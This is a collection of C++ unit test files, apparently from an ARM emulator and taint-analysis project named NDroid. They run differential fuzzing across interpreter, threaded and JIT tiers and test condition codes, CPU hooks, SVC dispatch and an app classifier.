  for (int i = 0; i < 8; ++i) {
    h = (h ^ ((v >> (8 * i)) & 0xFF)) * 0x100000001B3ull;
  }
  return h;
}

FuzzResult run_fuzz(const FuzzProgram& prog, FuzzEngine engine, bool taint,
                    u32 seed) {
  mem::AddressSpace mem;
  mem::MemoryMap map;
  map.add("code", kFuzzCode, 0x8000, mem::kRX);
  map.add("data", kFuzzData, 0x8000, mem::kRW);
  map.add("[stack]", 0x70000, 0x10000, mem::kRW);
  Cpu cpu(mem, map);
  cpu.set_initial_sp(0x80000);
  cpu.set_use_tb_cache(engine != FuzzEngine::kInterp);
  cpu.set_threaded_enabled(engine == FuzzEngine::kThreaded ||
                           engine == FuzzEngine::kThreadedFused ||
                           engine == FuzzEngine::kJit ||
                           engine == FuzzEngine::kJitTraced);
  mem.set_tlb_enabled(engine == FuzzEngine::kTbTlb ||
                      engine == FuzzEngine::kThreaded ||
                      engine == FuzzEngine::kThreadedFused ||
                      engine == FuzzEngine::kJit ||
                      engine == FuzzEngine::kJitTraced);
  cpu.set_jit_enabled(engine == FuzzEngine::kJit ||
                      engine == FuzzEngine::kJitTraced);
  mem.write_bytes(kFuzzCode, prog.arm_code);
  mem.write_bytes(kFuzzThumb, prog.thumb_code);

  core::TaintEngine taint_engine;
  std::unique_ptr<core::InstructionTracer> tracer;
  if (taint) {
    tracer = std::make_unique<core::InstructionTracer>(
        taint_engine, [](GuestAddr) { return true; });
    // Deterministic taint seed: argument registers and a stripe of the
    // data region the random loads will pull from.
    for (u8 r = 0; r < 4; ++r) {
      taint_engine.set_reg(r, 1u << ((seed + r) % 8));
    }
    for (u32 k = 0; k < 8; ++k) {
      taint_engine.map().set_range(kFuzzData + 8 * k, 4,
                                   1u << ((seed + k) % 8));
    }
    const bool traced_jit = engine == FuzzEngine::kJitTraced;
    cpu.add_insn_hook(
        [&tracer](Cpu& c, const Insn& insn, GuestAddr pc) {
          tracer->on_insn(c, insn, pc);
        },
        /*gated=*/traced_jit);
    if (engine == FuzzEngine::kThreadedFused || traced_jit) {
      cpu.set_trace_emitter(
          [&tracer](const TranslationBlock&, const TbInsn& ti) {
            return std::optional<TraceOp>(tracer->prepare(ti));
          });
    }
    if (traced_jit) {
      // The full NDroid-shaped fused-analysis wiring, minus liveness
      // gating: the gate fires on every block, so every dispatch of every
      // block runs the taint-fused traced host stream (or its threaded
      // equivalent where emission bailed) — maximum traced coverage for
      // the differential check.
      cpu.set_block_gate([](Cpu&, TranslationBlock&) { return true; });
      TaintJitView view;
      view.reg_labels = taint_engine.jit_reg_labels();
      view.sync = [](void* ctx, u32 written) {
        static_cast<core::TaintEngine*>(ctx)->jit_resync(
            static_cast<u16>(written));
      };
      view.sync_ctx = &taint_engine;
      view.shadow_tlb = taint_engine.map().jit_tlb_base();
      view.shadow_tlb_slots = mem::ShadowMemory::kJitTlbSlots;
      view.shadow_read = [](void* ctx, u32 addr, u32 len) -> u32 {
        auto* m = static_cast<mem::ShadowMemory*>(ctx);
        m->jit_fill(addr);
        return m->get_range(addr, len);
      };
      view.shadow_write = [](void* ctx, u32 addr, u32 len, u32 t) {
        static_cast<mem::ShadowMemory*>(ctx)->set_range(addr, len, t);
      };
      view.mem_ctx = &taint_engine.map();
      view.traced_ctr = tracer->traced_slot();
      view.cache_ctr =
          tracer->cache_enabled() ? tracer->cache_hits_slot() : nullptr;
      view.prop_ctr = &taint_engine.propagations;
      cpu.set_taint_jit_view(&view);
    }
  }

  FuzzResult res;
  const u32 args[4] = {seed, seed * 2654435761u, seed ^ 0xDEADBEEFu,
                       ~seed};
  res.r0 = cpu.call_function(kFuzzCode,
                             {args[0], args[1], args[2], args[3]});
  u64 h = 0xCBF29CE484222325ull;
  for (GuestAddr addr = kFuzzData; addr < kFuzzData + 0x440; addr += 4) {
    h = fnv1a(h, mem.read32(addr));
  }
  res.mem_digest = h;
  if (taint) {
    res.traced = tracer->instructions_traced();
    u64 sh = 0xCBF29CE484222325ull;
    for (u8 r = 0; r < 16; ++r) sh = fnv1a(sh, taint_engine.reg(r));
    for (GuestAddr addr = kFuzzData; addr < kFuzzData + 0x440; addr += 4) {
      sh = fnv1a(sh, taint_engine.map().get_range(addr, 4));
    }
    res.shadow_digest = sh;
    res.jit_traced_blocks = cpu.jit_traced_blocks();
    cpu.set_taint_jit_view(nullptr);  // view points into tracer/engine state
    cpu.set_trace_emitter(nullptr);   // tracer dies before the cpu
  }
  return res;
}

class DifferentialFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(DifferentialFuzz, EnginesAgreeOnStateAndShadow) {
  const u32 seed = GetParam();
  const FuzzProgram prog = generate_program(seed);

  // Baseline: the seed interpretive engine with taint tracking live.
  const FuzzResult base = run_fuzz(prog, FuzzEngine::kInterp, true, seed);

  const struct {
    FuzzEngine engine;
    const char* name;
  } tiers[] = {
      {FuzzEngine::kTb, "tb"},
      {FuzzEngine::kTbTlb, "tb+tlb"},
      {FuzzEngine::kThreaded, "threaded"},
      {FuzzEngine::kThreadedFused, "threaded+fused"},
      {FuzzEngine::kJit, "jit"},
      {FuzzEngine::kJitTraced, "jit+traced"},
  };
  for (const auto& tier : tiers) {
    const FuzzResult got = run_fuzz(prog, tier.engine, true, seed);
    EXPECT_EQ(got.r0, base.r0) << tier.name << " seed " << seed;
    EXPECT_EQ(got.mem_digest, base.mem_digest) << tier.name << " seed "
                                               << seed;
    EXPECT_EQ(got.traced, base.traced) << tier.name << " seed " << seed;
    EXPECT_EQ(got.shadow_digest, base.shadow_digest)
        << tier.name << " seed " << seed;
    // Agreement is only evidence if the tier under test actually ran: the
    // traced configuration must have executed taint-fused host code, not
    // silently fallen back to the threaded streams.
    if (tier.engine == FuzzEngine::kJitTraced && Cpu::jit_available()) {
      EXPECT_GT(got.jit_traced_blocks, 0u) << "seed " << seed;
    }
  }

  // Taint tracking must be a pure observer: with it off (every tier runs
  // its clean streams — the jit actually executing host code here) the
  // architectural results are unchanged.
  for (const FuzzEngine engine :
       {FuzzEngine::kInterp, FuzzEngine::kTb, FuzzEngine::kTbTlb,
        FuzzEngine::kThreaded, FuzzEngine::kJit}) {
    const FuzzResult got = run_fuzz(prog, engine, false, seed);
    EXPECT_EQ(got.r0, base.r0) << "taint-off seed " << seed;
    EXPECT_EQ(got.mem_digest, base.mem_digest) << "taint-off seed " << seed;
  }
}

// Bounded for CI: 12 seeds x 12 engine configurations, each a few thousand
// guest instructions.
INSTANTIATE_TEST_SUITE_P(Seeds, DifferentialFuzz, ::testing::Range(1u, 13u));

// --- Dispatch-table differential ---------------------------------------------
//
// The indirect-control-flow idioms the static VSA layer resolves — Thumb-2
// TBB/TBH, ARM literal-pool word tables, BLX through a register — exercised
// dynamically across every execution tier. The table loads go through the
// same data paths as ordinary loads (TLB probes, threaded micro-ops), so a
// tier that mishandles a PC-destination load or an interworking register
// call diverges here even if the straight-line fuzz above stays green.

/// Seeded program where every control transfer is a dispatch shape: the
/// Thumb leaf selects one of four cases via TBB or TBH on r0&3, and the ARM
/// main loop runs a word-table `ldr pc, [pc, r6]` switch on r7&3 followed
/// by a BLX-through-register interworking call into the leaf.
FuzzProgram generate_dispatch_program(u32 seed) {
  std::mt19937 rng(seed * 2654435761u + 0xD15BA7C4u);

  ThumbAssembler t(kFuzzThumb);
  const bool half = rng() % 2 != 0;
  ThumbLabel join;
  t.lsls(R(3), R(0), 30);  // r3 = r0 & 3
  t.lsrs(R(3), R(3), 30);
  const GuestAddr tb_pc = t.here();
  if (half) {
    t.tbh(PC, R(3));
  } else {
    t.tbb(PC, R(3));
  }
  const GuestAddr tb_base = tb_pc + 4;
  const GuestAddr case0 = tb_base + (half ? 8 : 4);
  for (u32 c = 0; c < 4; ++c) {
    const u32 off = (case0 + 4 * c - tb_base) / 2;
    if (half) {
      t.hword(static_cast<u16>(off));
    } else {
      t.byte(static_cast<u8>(off));
    }
  }
  for (u32 c = 0; c < 4; ++c) {
    t.movs_imm(R(2), static_cast<u8>(rng() % 256));  // 2 bytes
    t.b(join);                                       // narrow forward: 2 bytes
  }
  t.bind(join);
  t.adds(R(0), R(0), R(2));
  t.bx(LR);

  Assembler a(kFuzzCode);
  a.push({R(4), R(5), R(6), R(7), LR});
  a.mov_imm32(R(4), kFuzzData);
  a.mov_imm(R(5), 2 + rng() % 4);
  a.mov_imm(R(7), rng() % 256);
  Label loop;
  a.bind(loop);
  // Word-table switch on r7&3: `ldr pc, [pc, r6]` reads base pc+8, so one
  // pad word puts the four-entry table exactly under the base.
  a.and_imm(R(6), R(7), 3);
  a.lsl(R(6), R(6), 2);
  const GuestAddr ldr_pc = a.here();
  a.ldr_reg(PC, PC, R(6));
  a.word(0);
  const GuestAddr acase0 = ldr_pc + 8 + 16;
  for (u32 c = 0; c < 4; ++c) a.word(acase0 + 8 * c);
  Label arm_join;
  for (u32 c = 0; c < 4; ++c) {
    a.add_imm(R(1), R(1), rng() % 256);  // 4 bytes
    a.b(arm_join);                       // 4 bytes
  }
  a.bind(arm_join);
  a.str(R(1), R(4), static_cast<i32>(4 * (rng() % 32)));
  a.mov_imm32(R(6), kFuzzThumb | 1);  // BLX through a register into Thumb
  a.blx(R(6));
  a.add_imm(R(7), R(7), 1);
  a.sub_imm(R(5), R(5), 1, /*s=*/true);
  a.b(loop, Cond::kNE);
  const u8 spill[] = {0, 1, 2, 3, 6, 7};
  for (u32 i = 0; i < std::size(spill); ++i) {
    a.str(R(spill[i]), R(4), static_cast<i32>(0x400 + 4 * i));
  }
  for (u8 r : {1, 2, 3, 7}) a.eor(R(0), R(0), R(r));
  a.pop({R(4), R(5), R(6), R(7), LR});
  a.ret();

  FuzzProgram prog;
  prog.arm_code = a.finish();
  prog.thumb_code = t.finish();
  return prog;
}

class DispatchTableFuzz : public ::testing::TestWithParam<u32> {};

TEST_P(DispatchTableFuzz, EnginesAgreeOnDispatchHeavyPrograms) {
  const u32 seed = GetParam();
  const FuzzProgram prog = generate_dispatch_program(seed);

  const FuzzResult base = run_fuzz(prog, FuzzEngine::kInterp, true, seed);

  const struct {
    FuzzEngine engine;
    const char* name;
  } tiers[] = {
      {FuzzEngine::kTb, "tb"},
      {FuzzEngine::kTbTlb, "tb+tlb"},
      {FuzzEngine::kThreaded, "threaded"},
      {FuzzEngine::kThreadedFused, "threaded+fused"},
      {FuzzEngine::kJit, "jit"},
      {FuzzEngine::kJitTraced, "jit+traced"},
  };
  for (const auto& tier : tiers) {
    const FuzzResult got = run_fuzz(prog, tier.engine, true, seed);
    EXPECT_EQ(got.r0, base.r0) << tier.name << " seed " << seed;
    EXPECT_EQ(got.mem_digest, base.mem_digest)
        << tier.name << " seed " << seed;
    EXPECT_EQ(got.traced, base.traced) << tier.name << " seed " << seed;
    EXPECT_EQ(got.shadow_digest, base.shadow_digest)
        << tier.name << " seed " << seed;
  }

  // Dispatch-heavy programs with taint off: every dynamic-target terminal
  // (bx/blx, the ldr-pc table switch) resolves inside emitted code paths.
  for (const FuzzEngine engine : {FuzzEngine::kThreaded, FuzzEngine::kJit}) {
    const FuzzResult got = run_fuzz(prog, engine, false, seed);
    EXPECT_EQ(got.r0, base.r0) << "taint-off seed " << seed;
    EXPECT_EQ(got.mem_digest, base.mem_digest) << "taint-off seed " << seed;
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, DispatchTableFuzz, ::testing::Range(1u, 9u));

// --- Fuzzing as a farm workload ----------------------------------------------
//
// src/farm/fuzz wraps the same tier-differential idea as the parameterized
// sweep above into hermetic farm jobs (JobKind::kFuzz): each job generates a
// seeded ARM/Thumb program, runs it across every execution tier (including
// the fused-taint threaded tier), and fails on any architectural or shadow
// divergence. Bounded for CI: 64 seeds serially plus the same 64 sharded
// across worker processes.
TEST(DifferentialFuzz, FarmFuzzWorkloadAgreesAcrossTiersAndTopologies) {
  const std::vector<farm::JobSpec> jobs = farm::fuzz_jobs(64, 0xA5F00Dull);
  farm::FarmOptions opts;
  opts.share_summaries = false;  // fuzz jobs have no libraries to lift

  const farm::FarmReport serial = farm::run_farm(jobs, opts);
  EXPECT_EQ(serial.failures, 0u);
  for (const farm::JobResult& r : serial.results) {
    EXPECT_TRUE(r.ok) << r.spec.name << ": " << r.error;
    EXPECT_NE(r.checksum, 0u) << r.spec.name;  // digests actually folded in
  }

#ifndef NDROID_NO_FORK_TESTS
  // Crash-isolated processes must reproduce the serial digests bit-for-bit
  // (the checksums ride through the wire protocol).
  opts.processes = 2;
  const farm::FarmReport procs = farm::run_farm(jobs, opts);
  EXPECT_EQ(procs.failures, 0u);
  EXPECT_EQ(procs.leak_digest(), serial.leak_digest());
#endif
}

TEST(Extend, TaintFlowsThroughExtend) {
  // SXTB is a unary op for Table V: t(Rd) = t(Rm).
  CpuHarness h;
  core::TaintEngine engine;
  core::InstructionTracer tracer(engine, [](GuestAddr) { return true; });
  h.cpu_.add_insn_hook([&](arm::Cpu& c, const Insn& i, GuestAddr pc) {
    tracer.on_insn(c, i, pc);
  });
  engine.set_reg(2, 0x40);
  Assembler a(CpuHarness::kCode);
  a.sxtb(R(0), R(2));
  a.ret();
  h.run(a, {0, 0, 0x80});
  EXPECT_EQ(engine.reg(0), 0x40u);
}

}  // namespace
}  // namespace ndroid::arm
