// Parameterized sweeps over the ARM substrate: condition codes, shifter
// operand forms, constant synthesis, and assembler<->decoder agreement on
// randomized instruction streams.
#include <gtest/gtest.h>

#include <random>

#include "arm/assembler.h"
#include "arm/cpu.h"
#include "core/instruction_tracer.h"

namespace ndroid::arm {
namespace {

class CpuHarness {
 public:
  static constexpr GuestAddr kCode = 0x10000;

  CpuHarness() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x8000, mem::kRX);
    map_.add("data", 0x20000, 0x8000, mem::kRW);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

// --- All condition codes against a reference evaluator ---------------------

class ConditionSweep : public ::testing::TestWithParam<int> {};

TEST_P(ConditionSweep, MatchesReferenceSemantics) {
  const Cond cond = static_cast<Cond>(GetParam());
  // For a battery of (a, b) pairs: cmp a, b; mov<cond> r0, #1.
  const std::pair<u32, u32> pairs[] = {
      {0, 0},          {1, 0},   {0, 1},
      {0xFFFFFFFF, 1}, {1, 0xFFFFFFFF},
      {0x80000000, 1}, {1, 0x80000000},
      {0x7FFFFFFF, 0xFFFFFFFF},  // overflow territory
      {42, 42},
  };
  for (const auto& [x, y] : pairs) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm(R(0), 0);
    a.cmp(R(1), R(2));
    a.mov_imm(R(0), 1, cond);
    a.ret();
    const u32 got = h.run(a, {0, x, y});

    // Reference: evaluate the condition from first principles.
    const u32 diff = x - y;
    const bool n = (diff >> 31) != 0;
    const bool z = diff == 0;
    const bool c = x >= y;  // no borrow
    const bool v = (((x ^ y) & (x ^ diff)) >> 31) != 0;
    bool expect = false;
    switch (cond) {
      case Cond::kEQ: expect = z; break;
      case Cond::kNE: expect = !z; break;
      case Cond::kCS: expect = c; break;
      case Cond::kCC: expect = !c; break;
      case Cond::kMI: expect = n; break;
      case Cond::kPL: expect = !n; break;
      case Cond::kVS: expect = v; break;
      case Cond::kVC: expect = !v; break;
      case Cond::kHI: expect = c && !z; break;
      case Cond::kLS: expect = !c || z; break;
      case Cond::kGE: expect = n == v; break;
      case Cond::kLT: expect = n != v; break;
      case Cond::kGT: expect = !z && n == v; break;
      case Cond::kLE: expect = z || n != v; break;
      case Cond::kAL: expect = true; break;
    }
    EXPECT_EQ(got, expect ? 1u : 0u)
        << "cond " << to_string(cond) << " x=" << x << " y=" << y;
  }
}

INSTANTIATE_TEST_SUITE_P(AllConds, ConditionSweep, ::testing::Range(0, 15));

// --- mov_imm32 synthesises any constant -------------------------------------

class Imm32Sweep : public ::testing::TestWithParam<u32> {};

TEST_P(Imm32Sweep, RoundTrips) {
  std::mt19937 rng(GetParam());
  for (int i = 0; i < 40; ++i) {
    const u32 value = static_cast<u32>(rng());
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm32(R(0), value);
    a.ret();
    EXPECT_EQ(h.run(a), value);
  }
  // Plus the classic edge constants.
  for (u32 value : {0u, 1u, 0xFFu, 0x100u, 0xFFFFu, 0x10000u, 0xFFFFFFFFu,
                    0x80000000u, 0x12345678u, 0xFF00FF00u}) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    a.mov_imm32(R(0), value);
    a.ret();
    EXPECT_EQ(h.run(a), value);
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, Imm32Sweep, ::testing::Range(1u, 5u));

// --- Shifter operand semantics via the thumb shift-by-imm path --------------

TEST(Shifter, Lsr32ViaImmEncoding) {
  // LSR #32 (encoded as amount 0) must yield 0 and carry = bit31.
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.lsr(R(0), R(0), 32);
  a.ret();
  EXPECT_EQ(h.run(a, {0xFFFFFFFF}), 0u);
}

TEST(Shifter, AsrPropagatesSign) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.asr(R(0), R(0), 32);
  a.ret();
  EXPECT_EQ(h.run(a, {0x80000000}), 0xFFFFFFFFu);
  CpuHarness h2;
  Assembler b(CpuHarness::kCode);
  b.asr(R(0), R(0), 32);
  b.ret();
  EXPECT_EQ(h2.run(b, {0x7FFFFFFF}), 0u);
}

// --- Randomized assemble->decode->execute consistency ------------------------

class RandomProgram : public ::testing::TestWithParam<u32> {};

TEST_P(RandomProgram, MatchesHostReferenceModel) {
  std::mt19937 rng(GetParam() * 2654435761u);

  // Random arithmetic over r0-r3 (the argument registers), checked against
  // a host-side reference model instruction by instruction.
  std::array<u32, 4> regs{};
  for (auto& r : regs) r = rng();
  std::array<u32, 4> ref = regs;

  Assembler a(CpuHarness::kCode);
  const u32 steps = 8 + rng() % 24;
  for (u32 i = 0; i < steps; ++i) {
    const u8 rd = static_cast<u8>(rng() % 4);
    const u8 rn = static_cast<u8>(rng() % 4);
    const u8 rm = static_cast<u8>(rng() % 4);
    switch (rng() % 7) {
      case 0: a.add(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] + ref[rm]; break;
      case 1: a.sub(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] - ref[rm]; break;
      case 2: a.eor(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] ^ ref[rm]; break;
      case 3: a.and_(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] & ref[rm]; break;
      case 4: a.orr(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] | ref[rm]; break;
      case 5: a.mul(R(rd), R(rn), R(rm)); ref[rd] = ref[rn] * ref[rm]; break;
      case 6: {
        const u8 amount = static_cast<u8>(1 + rng() % 31);
        a.lsl(R(rd), R(rm), amount);
        ref[rd] = ref[rm] << amount;
        break;
      }
    }
  }
  // Fold all registers into r0 so every value is observable.
  for (u8 r = 1; r < 4; ++r) a.eor(R(0), R(0), R(r));
  a.ret();

  u32 expect = ref[0];
  for (u32 r = 1; r < 4; ++r) expect ^= ref[r];

  CpuHarness h;
  EXPECT_EQ(h.run(a, {regs[0], regs[1], regs[2], regs[3]}), expect)
      << "seed " << GetParam();
}

INSTANTIATE_TEST_SUITE_P(Seeds, RandomProgram, ::testing::Range(1u, 9u));

// --- LDM/STM corner cases ----------------------------------------------------

TEST(BlockTransfer, StmIaThenLdmIaRoundTrip) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mov_imm32(R(4), 0x20000);
  a.mov_imm(R(1), 11);
  a.mov_imm(R(2), 22);
  a.mov_imm(R(3), 33);
  a.stm_ia(R(4), (1u << 1) | (1u << 2) | (1u << 3), /*writeback=*/false);
  a.mov_imm(R(1), 0);
  a.mov_imm(R(2), 0);
  a.mov_imm(R(3), 0);
  a.ldm_ia(R(4), (1u << 1) | (1u << 2) | (1u << 3), /*writeback=*/false);
  a.add(R(0), R(1), R(2));
  a.add(R(0), R(0), R(3));
  a.ret();
  EXPECT_EQ(h.run(a), 66u);
  EXPECT_EQ(h.mem_.read32(0x20000), 11u);
  EXPECT_EQ(h.mem_.read32(0x20008), 33u);
}

TEST(BlockTransfer, WritebackAdjustsBase) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mov_imm32(R(4), 0x20000);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 2);
  a.stm_ia(R(4), (1u << 1) | (1u << 2), /*writeback=*/true);
  a.mov(R(0), R(4));
  a.ret();
  EXPECT_EQ(h.run(a), 0x20008u);
}

TEST(Multiply, MlaAccumulates) {
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.mla(R(0), R(1), R(2), R(3));  // r0 = r1*r2 + r3
  a.ret();
  EXPECT_EQ(h.run(a, {0, 6, 7, 100}), 142u);
}

TEST(Extend, ArmModeExtendInstructions) {
  struct Case {
    void (Assembler::*emit)(Reg, Reg);
    u32 input;
    u32 expect;
  };
  const Case cases[] = {
      {&Assembler::sxtb, 0x80, 0xFFFFFF80},
      {&Assembler::sxtb, 0x7F, 0x7F},
      {&Assembler::sxth, 0x8000, 0xFFFF8000},
      {&Assembler::uxtb, 0xABCD, 0xCD},
      {&Assembler::uxth, 0xABCD1234, 0x1234},
  };
  for (const Case& c : cases) {
    CpuHarness h;
    Assembler a(CpuHarness::kCode);
    (a.*c.emit)(R(0), R(0));
    a.ret();
    EXPECT_EQ(h.run(a, {c.input}), c.expect);
  }
  // CLZ of 0 is 32 (unary class companion).
  CpuHarness h;
  Assembler a(CpuHarness::kCode);
  a.clz(R(0), R(0));
  a.ret();
  EXPECT_EQ(h.run(a, {0}), 32u);
}

TEST(Extend, TaintFlowsThroughExtend) {
  // SXTB is a unary op for Table V: t(Rd) = t(Rm).
  CpuHarness h;
  core::TaintEngine engine;
  core::InstructionTracer tracer(engine, [](GuestAddr) { return true; });
  h.cpu_.add_insn_hook([&](arm::Cpu& c, const Insn& i, GuestAddr pc) {
    tracer.on_insn(c, i, pc);
  });
  engine.set_reg(2, 0x40);
  Assembler a(CpuHarness::kCode);
  a.sxtb(R(0), R(2));
  a.ret();
  h.run(a, {0, 0, 0x80});
  EXPECT_EQ(engine.reg(0), 0x40u);
}

}  // namespace
}  // namespace ndroid::arm
