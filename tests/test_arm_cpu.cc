// CPU instrumentation surface: instruction hooks, branch hooks, helpers,
// SVC dispatch — the exact points NDroid's engines attach to.
#include <gtest/gtest.h>

#include "arm/assembler.h"
#include "arm/cpu.h"

namespace ndroid::arm {
namespace {

class CpuFixture : public ::testing::Test {
 protected:
  static constexpr GuestAddr kCode = 0x10000;
  static constexpr GuestAddr kHelper = 0xF0000000;

  CpuFixture() : cpu_(mem_, map_) {
    map_.add("code", kCode, 0x4000, mem::kRX);
    map_.add("[stack]", 0x70000, 0x10000, mem::kRW);
    cpu_.set_initial_sp(0x80000);
  }

  u32 run(Assembler& a, const std::vector<u32>& args = {}) {
    const auto code = a.finish();
    mem_.write_bytes(kCode, code);
    return cpu_.call_function(kCode, args);
  }

  mem::AddressSpace mem_;
  mem::MemoryMap map_;
  Cpu cpu_;
};

TEST_F(CpuFixture, InsnHookSeesEveryInstruction) {
  std::vector<Op> seen;
  cpu_.add_insn_hook([&](Cpu&, const Insn& insn, GuestAddr) {
    seen.push_back(insn.op);
  });
  Assembler a(kCode);
  a.mov_imm(R(0), 1);
  a.add_imm(R(0), R(0), 2);
  a.ret();
  run(a);
  ASSERT_EQ(seen.size(), 3u);
  EXPECT_EQ(seen[0], Op::kMov);
  EXPECT_EQ(seen[1], Op::kAdd);
  EXPECT_EQ(seen[2], Op::kBx);
}

TEST_F(CpuFixture, RemoveInsnHookStopsDelivery) {
  int count = 0;
  const int id = cpu_.add_insn_hook([&](Cpu&, const Insn&, GuestAddr) {
    ++count;
  });
  Assembler a(kCode);
  a.ret();
  run(a);
  EXPECT_EQ(count, 1);
  cpu_.remove_insn_hook(id);
  Assembler b(kCode);
  b.ret();
  run(b);
  EXPECT_EQ(count, 1);
}

TEST_F(CpuFixture, BranchHookReportsFromTo) {
  std::vector<std::pair<GuestAddr, GuestAddr>> branches;
  cpu_.add_branch_hook([&](Cpu&, GuestAddr from, GuestAddr to) {
    branches.emplace_back(from, to);
  });
  Assembler a(kCode);
  Label helper;
  a.push({LR});          // kCode
  a.bl(helper);          // kCode+4
  a.pop({PC});           // kCode+8
  a.bind(helper);        // kCode+12
  a.mov_imm(R(0), 7);    // kCode+12
  a.ret();               // kCode+16 -> back to kCode+8
  run(a);
  // Expected: call_function entry event, bl -> helper, bx lr -> kCode+8,
  // pop pc -> host return.
  ASSERT_EQ(branches.size(), 4u);
  EXPECT_EQ(branches[0].second, kCode);
  EXPECT_EQ(branches[1].first, kCode + 4);
  EXPECT_EQ(branches[1].second, kCode + 12);
  EXPECT_EQ(branches[2].first, kCode + 16);
  EXPECT_EQ(branches[2].second, kCode + 8);
  EXPECT_EQ(branches[3].second, kHostReturnAddr);
}

TEST_F(CpuFixture, ConditionalBranchNotTakenIsNotAnEvent) {
  int events = 0;
  cpu_.add_branch_hook([&](Cpu&, GuestAddr, GuestAddr) { ++events; });
  Assembler a(kCode);
  Label skip;
  a.cmp_imm(R(0), 0);
  a.b(skip, Cond::kEQ);  // r0 == 5 -> not taken
  a.mov_imm(R(0), 1);
  a.bind(skip);
  a.ret();
  run(a, {5});
  EXPECT_EQ(events, 2);  // the call_function entry event + the final bx lr
}

TEST_F(CpuFixture, HelperRunsAndReturnsToLr) {
  bool ran = false;
  cpu_.register_helper(kHelper, [&](Cpu& cpu) {
    ran = true;
    cpu.state().regs[0] = cpu.state().regs[0] * 2;
  });
  Assembler a(kCode);
  a.push({LR});
  a.call(kHelper);
  a.add_imm(R(0), R(0), 1);
  a.pop({PC});
  EXPECT_EQ(run(a, {20}), 41u);
  EXPECT_TRUE(ran);
}

TEST_F(CpuFixture, HelperEntryAndExitAreBranchEvents) {
  std::vector<std::pair<GuestAddr, GuestAddr>> branches;
  cpu_.add_branch_hook([&](Cpu&, GuestAddr from, GuestAddr to) {
    branches.emplace_back(from, to);
  });
  cpu_.register_helper(kHelper, [](Cpu&) {});
  Assembler a(kCode);
  a.push({LR});
  a.call(kHelper);  // 0xF0000000 is rotation-encodable: mov ip + blx at +4,+8
  a.pop({PC});
  run(a);
  ASSERT_GE(branches.size(), 4u);
  // branches[0] is the call_function entry event; blx at kCode+8 -> helper
  EXPECT_EQ(branches[1].first, kCode + 8);
  EXPECT_EQ(branches[1].second, kHelper);
  // helper returns to kCode+12
  EXPECT_EQ(branches[2].first, kHelper);
  EXPECT_EQ(branches[2].second, kCode + 12);
}

TEST_F(CpuFixture, HelperMayCallGuestFunction) {
  // Guest function at kCode+0x100 doubles its argument; the helper calls it
  // re-entrantly (this is what the dvmInterpret helper does when Java code
  // invokes another native method).
  Assembler inner(kCode + 0x100);
  inner.add(R(0), R(0), R(0));
  inner.ret();
  const auto inner_code = inner.finish();
  mem_.write_bytes(kCode + 0x100, inner_code);

  cpu_.register_helper(kHelper, [&](Cpu& cpu) {
    const u32 doubled = cpu.call_function(kCode + 0x100, {21});
    cpu.state().regs[0] = doubled;
  });

  Assembler a(kCode);
  a.push({LR});
  a.call(kHelper);
  a.pop({PC});
  EXPECT_EQ(run(a), 42u);
}

TEST_F(CpuFixture, SvcDispatchesToHandler) {
  u32 seen_number = 0;
  u32 seen_r7 = 0;
  cpu_.set_svc_handler([&](Cpu& cpu, u32 number) {
    seen_number = number;
    seen_r7 = cpu.state().regs[7];
    cpu.state().regs[0] = 123;
  });
  Assembler a(kCode);
  a.mov_imm(R(7), 4);  // Linux-style syscall number in r7
  a.svc(0);
  a.ret();
  EXPECT_EQ(run(a), 123u);
  EXPECT_EQ(seen_number, 0u);
  EXPECT_EQ(seen_r7, 4u);
}

TEST_F(CpuFixture, SvcWithoutHandlerFaults) {
  Assembler a(kCode);
  a.svc(1);
  a.ret();
  const auto code = a.finish();
  mem_.write_bytes(kCode, code);
  EXPECT_THROW(cpu_.call_function(kCode), GuestFault);
}

TEST_F(CpuFixture, CallFunctionRestoresState) {
  Assembler a(kCode);
  a.mov_imm(R(4), 0x55);   // clobber a callee-saved register, on purpose
  a.mov_imm(R(0), 1);
  a.ret();
  const auto code = a.finish();
  mem_.write_bytes(kCode, code);
  cpu_.state().regs[4] = 0xAA;
  cpu_.call_function(kCode);
  EXPECT_EQ(cpu_.state().regs[4], 0xAAu);
}

TEST_F(CpuFixture, RunawayGuestCallThrows) {
  cpu_.set_step_budget(10'000);
  Assembler a(kCode);
  Label self;
  a.bind(self);
  a.b(self);  // infinite loop
  const auto code = a.finish();
  mem_.write_bytes(kCode, code);
  EXPECT_THROW(cpu_.call_function(kCode), GuestFault);
}

}  // namespace
}  // namespace ndroid::arm
