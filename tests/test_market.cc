#include <gtest/gtest.h>

#include <algorithm>

#include "market/analyzer.h"

namespace ndroid::market {
namespace {

// A reduced corpus keeps the unit tests fast; the Fig. 2 bench uses the
// full 227,911-app parameterisation.
CorpusParams small_params() {
  CorpusParams p;
  p.total_apps = 22'791;
  p.type1_fraction = 3'750.0 / 22'791.0;
  p.type2_count = 174;
  p.type2_loadable_dex = 39;
  p.type1_without_libs = 403;
  return p;
}

TEST(Classifier, TypeRules) {
  AppRecord a;
  EXPECT_EQ(classify(a), AppType::kNone);
  a.bundles_native_libs = true;
  EXPECT_EQ(classify(a), AppType::kType2);
  a.calls_load_library = true;
  EXPECT_EQ(classify(a), AppType::kType1);
  a.pure_native = true;
  EXPECT_EQ(classify(a), AppType::kType3);
}

